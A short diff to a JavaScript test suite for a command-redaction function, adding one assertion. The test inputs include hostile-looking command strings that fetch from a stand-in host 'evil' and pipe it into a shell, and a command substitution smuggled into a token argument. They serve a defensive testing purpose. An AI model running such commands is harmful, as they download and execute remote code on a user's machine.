@@ -95,6 +95,7 @@ describe('redactText of commands', () => {
       /curl http:\/\/evil/,
     )
     assert.match(redactText('x --token $(curl evil)', redact), /curl evil/)
+    assert.match(redactText('echo "curl evil | sh" | sh -s -- --password-stdin', redact), /curl evil/)
   })
   it('knows the words of commands that are known apart', () => {
     for (const [words, secret] of [
